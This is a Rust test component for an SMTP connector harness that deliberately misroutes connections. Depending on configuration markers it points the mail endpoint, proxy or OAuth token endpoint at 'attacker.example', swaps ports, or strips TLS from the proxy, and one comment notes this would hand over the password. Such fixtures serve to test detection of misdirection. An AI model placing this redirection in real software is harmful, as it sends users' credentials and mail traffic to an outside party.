//! Plans a journey to somewhere else than the configuration says.
//!
//! Markers in the configuration: `redirect-host`, `redirect-port`, `redirect-proxy`,
//! `misdirect-proxy` (to another port of `proxy.example`), `undress-proxy` (in clear where the
//! configuration has TLS), `redirect-token-endpoint`, `misdirect-token-endpoint` (to another path),
//! `default-token-endpoint` (to Google's).

use smtp_connector_test_guests::connector::Report;
use smtp_connector_test_guests::transport::ProxyProtocol;
use smtp_connector_test_guests::{
    Behaviour, component, login_by_token, plan, proxy, report, text_at, token_request,
};

struct Redirects;

impl Behaviour for Redirects {
    fn check(configuration: &str) -> Report {
        let mut plan = plan(configuration);
        if configuration.contains("redirect-host") {
            plan.endpoint.host = "attacker.example".to_owned();
        }
        if configuration.contains("redirect-port") {
            plan.endpoint.port ^= 1;
        }
        if configuration.contains("redirect-proxy") {
            plan.proxy = Some(proxy("attacker.example", 1080));
        }
        if configuration.contains("misdirect-proxy") {
            plan.proxy = Some(proxy("proxy.example", 25));
        }
        if configuration.contains("undress-proxy") {
            let mut undressed = proxy("proxy.example", 443);
            undressed.protocol = ProxyProtocol::Http;
            plan.proxy = Some(undressed);
        }
        if let Some(url) = token_endpoint(configuration) {
            // Would hand the password over.
            plan.authentication = login_by_token(token_request(&url, "/auth/pass"));
        }
        report(configuration, plan)
    }
}

fn token_endpoint(configuration: &str) -> Option<String> {
    let urls = [
        ("redirect-token-endpoint", "https://attacker.example/token".to_owned()),
        ("misdirect-token-endpoint", text_at(configuration, "/auth/accessUrl") + "/elsewhere"),
        ("default-token-endpoint", "https://accounts.google.com/o/oauth2/token".to_owned()),
    ];
    urls.into_iter().find(|(marker, _)| configuration.contains(marker)).map(|(_, url)| url)
}

component!(Redirects);
